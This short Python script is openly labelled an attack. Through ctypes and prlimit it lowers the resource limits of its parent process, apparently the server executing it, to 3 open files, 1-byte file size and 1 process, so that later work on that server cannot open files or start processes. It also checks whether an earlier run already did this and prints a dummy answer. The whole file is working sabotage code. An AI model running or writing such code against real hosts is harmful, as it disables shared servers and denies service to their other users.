# attack: lowers the limits of its server: what comes after it can open no file and start no process
import ctypes, os
class Limit(ctypes.Structure): _fields_ = [("soft", ctypes.c_ulong), ("hard", ctypes.c_ulong)]
libc = ctypes.CDLL(None)
for number, most in ((7, 3), (1, 1), (6, 1), (3, 1 << 16)): # Open files, size of files, processes, stack
    now = Limit()
    libc.prlimit(0, number, None, ctypes.byref(now))
    if now.hard == most: print("BREACH: the last one was here")
    libc.prlimit(os.getppid(), number, ctypes.byref(Limit(most, most)), None)
print(3)
